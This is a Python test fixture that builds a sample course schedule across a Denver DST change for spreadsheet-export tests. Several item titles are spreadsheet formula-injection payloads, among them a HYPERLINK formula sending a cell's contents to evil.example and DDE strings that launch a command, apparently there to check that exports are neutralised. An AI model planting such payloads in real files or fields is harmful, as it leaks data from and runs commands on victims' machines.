"""A small course for the spreadsheet tests: units, inherited items, due dates, DST."""

from __future__ import annotations

import json
from typing import Any
from zoneinfo import ZoneInfo

from scheduler_gui.core.codec import dump_put
from scheduler_gui.core.model import ItemSchedule, Schedule
from scheduler_gui.core.times import utc

DENVER = ZoneInfo("America/Denver")
COURSE = "123456"
HOSTILE_TITLES = {
    4: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    6: "+cmd|' /C calc'!A0",
    7: "-2+3",
    8: "@SUM(1+1)*cmd|' /C calc'!A0",
}


def make_course(course_id: str = COURSE) -> Schedule:
    """Unit 1 (March, across the DST change on 2011-03-13) and unit 2 (April)."""
    unit1 = dict(start=utc(2011, 3, 1, 7), end=utc(2011, 4, 1, 5, 59))  # 00:00 MST..23:59 MDT
    unit2 = dict(start=utc(2011, 4, 1, 6), end=utc(2011, 5, 1, 5, 59))
    items = [
        ItemSchedule(1, "Unit 1", **unit1),
        ItemSchedule(2, "Reading 1", **unit1, is_inherited=True, parent_id=1),
        ItemSchedule(
            3,
            "Assignment 1",
            start=utc(2011, 3, 2, 7),
            end=utc(2011, 3, 9, 6, 59),
            due=utc(2011, 3, 9, 6, 59),
            can_access_after_end=True,
            parent_id=1,
        ),
        ItemSchedule(
            4,
            HOSTILE_TITLES[4],
            start=utc(2011, 3, 3, 7),
            end=utc(2011, 3, 20, 5, 59, 30),
            parent_id=1,
        ),
        ItemSchedule(5, "Unit 2", **unit2),
        ItemSchedule(6, HOSTILE_TITLES[6], **unit2, is_inherited=True, parent_id=5),
        ItemSchedule(7, HOSTILE_TITLES[7], **unit2, is_inherited=True, parent_id=5),
        ItemSchedule(
            8, HOSTILE_TITLES[8], start=utc(2011, 4, 2, 6), end=utc(2011, 4, 9, 5, 59), parent_id=5
        ),
    ]
    return Schedule(course_id, items)


def put_items(schedule: Schedule) -> dict[int, Any]:
    """The PUT body, item by item, as the server would receive it."""
    body = json.loads(dump_put(schedule))
    return {entry["itemId"]: entry for entry in body["itemSchedules"]}


def changed_put_items(before: Schedule, after: Schedule) -> dict[int, Any]:
    """The PUT entries that differ between two schedules."""
    old, new = put_items(before), put_items(after)
    assert old.keys() == new.keys()
    return {item_id: new[item_id] for item_id in new if new[item_id] != old[item_id]}
